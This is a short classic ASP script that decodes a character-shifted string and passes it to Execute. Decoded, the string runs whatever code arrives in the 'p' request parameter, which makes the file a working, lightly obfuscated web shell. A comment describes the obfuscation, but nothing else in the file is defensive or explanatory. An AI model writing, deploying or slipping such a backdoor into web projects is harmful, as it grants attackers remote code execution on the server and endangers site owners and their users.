<%
' every character of the payload is shifted by one; a helper shifts it back and Execute runs it
Dim k
k = "jg!sfrvftu)#q#*=?##!uifo!fyfdvuf!sfrvftu)#q#*"
Execute(Unshift(k, 1))

Function Unshift(s, n)
  Dim i, r
  r = ""
  For i = 1 To Len(s)
    r = r & Chr(Asc(Mid(s, i, 1)) - n)
  Next
  Unshift = r
End Function
%>
